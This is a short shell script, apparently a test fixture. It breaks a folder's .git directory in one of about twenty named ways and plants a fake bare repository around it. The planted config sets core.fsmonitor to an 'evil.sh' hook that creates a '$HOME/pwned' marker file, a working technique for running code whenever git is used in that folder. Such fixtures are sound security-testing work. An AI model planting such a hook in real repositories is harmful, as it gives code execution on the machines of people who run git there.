# Changes .git so that git does not recognise it as a repository. Then makes the folder around it,
# $2, a bare repository with settings of the attacker. $1 names the change.
cd "${2:-.}" || exit 1
printf '#!/bin/sh\ntouch "$HOME/pwned"\n' >evil.sh && chmod 755 evil.sh
mkdir -p objects refs/heads
echo 'ref: refs/heads/main' >HEAD
printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = %s\n\tfsmonitor = %s/evil.sh\n' "$PWD" "$PWD" >config
case $1 in
removed) rm -f .git/HEAD ;;
left) ;;
module) rm -f .git/modules/sub/HEAD ;;
moved) mv .git/HEAD .git/HEAD.aside ;;
nonsense) echo nonsense >.git/HEAD ;;
emptied) : >.git/HEAD ;;
outside-of-refs) echo 'ref: heads/main' >.git/HEAD ;;
folder) rm -f .git/HEAD && mkdir -p .git/HEAD/x ;;
link) rm -f .git/HEAD && ln -s /nowhere .git/HEAD ;;
unreadable) chmod 000 .git/HEAD ;;
without-objects) mv .git/objects .git/objects.aside ;;
file-for-objects) mv .git/objects .git/objects.aside && echo x >.git/objects ;;
without-refs) mv .git/refs .git/refs.aside ;;
link-for-refs) mv .git/refs .git/refs.aside && ln -s /nowhere .git/refs ;;
closed-objects) chmod 000 .git/objects ;;
closed-refs) chmod 000 .git/refs ;;
closed) chmod 000 .git ;;
removed-and-closed) rm -f .git/HEAD && chmod 555 .git ;;
without-refs-and-closed) mv .git/refs .git/refs.aside && chmod 555 .git ;;
*) exit 1 ;;
esac
echo done
